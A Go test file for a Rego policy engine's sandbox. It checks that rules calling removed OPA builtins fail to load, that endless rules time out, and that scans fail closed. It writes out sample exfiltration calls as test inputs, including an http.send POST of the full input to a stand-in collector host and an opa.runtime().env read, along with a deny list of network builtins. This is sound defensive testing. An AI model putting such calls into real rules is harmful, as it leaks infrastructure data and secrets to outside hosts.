package rules

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/open-policy-agent/opa/v1/ast"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Every builtin of the embedded OPA is decided, with a reason, and no
// decision names a builtin OPA does not have: an OPA upgrade that adds one
// fails here until someone decides whether rules may call it.
func TestEveryBuiltinIsDecided(t *testing.T) {
	have := map[string]bool{}
	for _, b := range ast.CapabilitiesForThisVersion().Builtins {
		have[b.Name] = true
		_, removed := removedBuiltins[b.Name]
		_, allowed := allowedBuiltins[b.Name]
		assert.True(t, removed != allowed, "builtin %s must be either removed or allowed (removed=%v allowed=%v)", b.Name, removed, allowed)
	}
	for _, decided := range []map[string]string{removedBuiltins, allowedBuiltins} {
		for name, why := range decided {
			assert.True(t, have[name], "%s is decided but this OPA has no such builtin", name)
			assert.NotEmpty(t, strings.TrimSpace(why), "%s has no reason", name)
		}
	}
}

// The capabilities rules compile with hold every allowed builtin and no
// removed one, and allow no network host.
func TestSandboxCapabilities(t *testing.T) {
	got := map[string]bool{}
	for _, b := range capabilities.Builtins {
		got[b.Name] = true
	}
	for name := range removedBuiltins {
		assert.False(t, got[name], "%s is removed but still in the capabilities", name)
	}
	for name := range allowedBuiltins {
		assert.True(t, got[name], "%s is allowed but missing from the capabilities", name)
	}
	for _, name := range []string{"http.send", "net.lookup_ip_addr", "opa.runtime", "time.now_ns", "rand.intn", "uuid.rfc4122"} {
		assert.Contains(t, removedBuiltins, name)
	}
	require.NotNil(t, capabilities.AllowNet)
	assert.Empty(t, capabilities.AllowNet)
}

// leakyRule is a user rule whose deny calls one builtin on line 11.
func leakyRule(call string) string {
	return `# METADATA
# title: Leaks
# custom:
#   id: ACME-LEAK
#   severity: low
#   concern: backup
#   well_architected: [REL09-BP01]
#   remediation: none
package bulwark.rules.acme.leak

deny contains {"resource": "Q", "path": [], "message": sprintf("%v", [x])} if { x := ` + call + ` }
`
}

func TestUserRuleCallingARemovedBuiltinIsALoadError(t *testing.T) {
	tests := []struct{ builtin, call string }{
		{"http.send", `http.send({"method": "POST", "url": "https://collector.example", "body": input})`},
		{"net.lookup_ip_addr", `net.lookup_ip_addr("leak.collector.example")`},
		{"opa.runtime", `opa.runtime().env`},
		{"time.now_ns", `time.now_ns()`},
		{"rand.intn", `rand.intn("seed", 10)`},
		{"uuid.rfc4122", `uuid.rfc4122("seed")`},
		{"json.verify_schema", `json.verify_schema({"$ref": "https://collector.example/schema.json"})`},
		{"providers.aws.sign_req", `providers.aws.sign_req({}, {}, 0)`},
	}
	for _, tc := range tests {
		t.Run(tc.builtin, func(t *testing.T) {
			dir := writeRule(t, leakyRule(tc.call))
			_, err := New(Options{RuleDirs: []string{dir}})
			require.Error(t, err)
			assert.Contains(t, err.Error(), "rule.rego:11: builtin "+tc.builtin+" is not available to bulwark rules (")
		})
	}
}

// A library module (no rule metadata) is held to the same capabilities.
func TestUserLibraryCallingARemovedBuiltinIsALoadError(t *testing.T) {
	dir := writeRule(t, "package acme.helpers\n\nsecret := opa.runtime().env\n")
	_, err := New(Options{RuleDirs: []string{dir}})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "rule.rego:3: builtin opa.runtime is not available")
}

// removedCalls lists the removed builtins a module calls, with lines.
func removedCalls(m *ast.Module) []string {
	var out []string
	check := func(op ast.Ref, loc *ast.Location) {
		if _, removed := removedBuiltins[op.String()]; removed {
			out = append(out, fmt.Sprintf("%s:%d: %s", loc.File, loc.Row, op))
		}
	}
	ast.WalkExprs(m, func(e *ast.Expr) bool {
		if e.IsCall() {
			check(e.Operator(), e.Location)
		}
		return false
	})
	ast.WalkTerms(m, func(t *ast.Term) bool {
		if call, ok := t.Value.(ast.Call); ok {
			if op, ok := call[0].Value.(ast.Ref); ok {
				check(op, t.Location)
			}
		}
		return false
	})
	return out
}

// The engine skips the compiler's checks for the embedded pack alone (it
// is checked here instead), so the pack, tests and companions included,
// must call no removed builtin: nothing else would stop it at run time.
func TestEmbeddedPackCallsNoRemovedBuiltin(t *testing.T) {
	probe, err := ast.ParseModuleWithOpts("probe.rego", "package p\n\nx := y if {\n\ty := http.send({})\n}\n\nz if time.now_ns() > 0\n", ast.ParserOptions{RegoVersion: ast.RegoV1})
	require.NoError(t, err)
	require.Len(t, removedCalls(probe), 2, "the walk finds nested and top-level calls: %v", removedCalls(probe))

	mods := policyModules(t)
	require.NotEmpty(t, mods)
	for name, m := range mods {
		assert.Empty(t, removedCalls(m), "%s calls a builtin rules may not call", name)
	}
}

// endlessRule counts to a hundred million and never denies.
const endlessRule = `# METADATA
# title: Endless
# custom:
#   id: ACME-ENDLESS
#   severity: low
#   concern: backup
#   well_architected: [REL09-BP01]
#   remediation: none
package bulwark.rules.acme.endless

deny contains x if {
	some i in numbers.range(1, 100000000)
	x := i
	false
}
`

// A rule that runs past the deadline is an error naming it and its file;
// the other rules still report.
func TestEndlessRuleIsStoppedAndNamed(t *testing.T) {
	dir := writeRule(t, endlessRule)
	e, err := New(Options{RuleDirs: []string{dir}, EvalTimeout: 200e6})
	require.NoError(t, err)
	tmpl := loadTemplate(t, "Resources:\n  T:\n    Type: AWS::DynamoDB::Table\n")
	ev := e.EvaluateTemplate(context.Background(), tmpl, Env{})
	require.Len(t, ev.Diagnostics, 1, "%v", ev.Diagnostics)
	d := ev.Diagnostics[0]
	assert.Equal(t, "t.yaml", d.File)
	assert.Equal(t, "error", string(d.Severity))
	assert.Contains(t, d.Message, "rule ACME-ENDLESS ("+dir)
	assert.Contains(t, d.Message, "rule.rego) did not finish within the evaluation time limit of 200ms")
}

// A scan reports it too, once per template.
func TestScanReportsEndlessRule(t *testing.T) {
	dir := writeRule(t, endlessRule)
	e, err := New(Options{RuleDirs: []string{dir}, EvalTimeout: 200e6})
	require.NoError(t, err)
	tmpl := writeTemplate(t, "Resources:\n  T:\n    Type: AWS::DynamoDB::Table\n")
	res := e.Scan(context.Background(), []string{tmpl}, ScanOptions{})
	var msgs []string
	for _, d := range res.Diagnostics {
		if d.Severity == "error" && d.File == tmpl {
			msgs = append(msgs, d.Message)
		}
	}
	require.Len(t, msgs, 1, "%v", res.Diagnostics)
	assert.Contains(t, msgs[0], "rule ACME-ENDLESS")
	assert.Contains(t, msgs[0], "time limit")
}

// endlessWorkloadRule collects a fact per template and, over the
// workload, never finishes.
const endlessWorkloadRule = `# METADATA
# title: Endless workload
# custom:
#   id: ACME-ENDLESS-WL
#   severity: low
#   concern: backup
#   well_architected: [REL09-BP01]
#   scope: workload
#   remediation: none
package bulwark.rules.acme.endless_workload

facts contains {"resource": id, "path": []} if some id, _ in input.resources

deny contains x if {
	input.kind == "workload"
	some i in numbers.range(1, 100000000)
	x := i
	false
}
`

func TestEndlessWorkloadRuleIsStoppedAndNamed(t *testing.T) {
	dir := writeRule(t, endlessWorkloadRule)
	e, err := New(Options{RuleDirs: []string{dir}, EvalTimeout: 200e6})
	require.NoError(t, err)
	tmpl := writeTemplate(t, "Resources:\n  T:\n    Type: AWS::DynamoDB::Table\n")
	res := e.Scan(context.Background(), []string{tmpl}, ScanOptions{})
	var msgs []string
	for _, d := range res.Diagnostics {
		if d.Severity == "error" {
			msgs = append(msgs, d.File+": "+d.Message)
		}
	}
	require.Len(t, msgs, 1, "%v", res.Diagnostics)
	assert.Contains(t, msgs[0], "rule.rego: rule ACME-ENDLESS-WL did not finish within the evaluation time limit of 200ms")
	assert.Contains(t, msgs[0], "on the workload")
}

func writeTemplate(t *testing.T, src string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "t.yaml")
	require.NoError(t, os.WriteFile(p, []byte(src), 0o644))
	return p
}

// rules/README.md lists every removed builtin, so rule authors know.
func TestReadmeListsRemovedBuiltins(t *testing.T) {
	data, err := os.ReadFile("README.md")
	require.NoError(t, err)
	doc := string(data)
	start := strings.Index(doc, "## What user rules may call")
	require.GreaterOrEqual(t, start, 0, "rules/README.md has the section")
	section := doc[start:]
	if end := strings.Index(section[3:], "\n## "); end >= 0 {
		section = section[:end+3]
	}
	for _, r := range RemovedBuiltins() {
		assert.Contains(t, section, "| `"+r[0]+"` |", "removed builtin %s is not documented", r[0])
	}
}

// A scan whose rules fail to load returns their error and no result:
// nothing may pass on templates no rule looked at.
func TestScanWhileLoadingFailsClosed(t *testing.T) {
	tmpl := writeTemplate(t, "Resources:\n  T:\n    Type: AWS::DynamoDB::Table\n")
	_, loadErr := New(Options{RuleDirs: []string{writeRule(t, leakyRule("http.send({})"))}})
	require.Error(t, loadErr)
	res, err := ScanWhileLoading(context.Background(), func() (*Engine, error) { return nil, loadErr }, []string{tmpl, tmpl, tmpl}, ScanOptions{})
	assert.Nil(t, res)
	require.ErrorIs(t, err, loadErr)
}
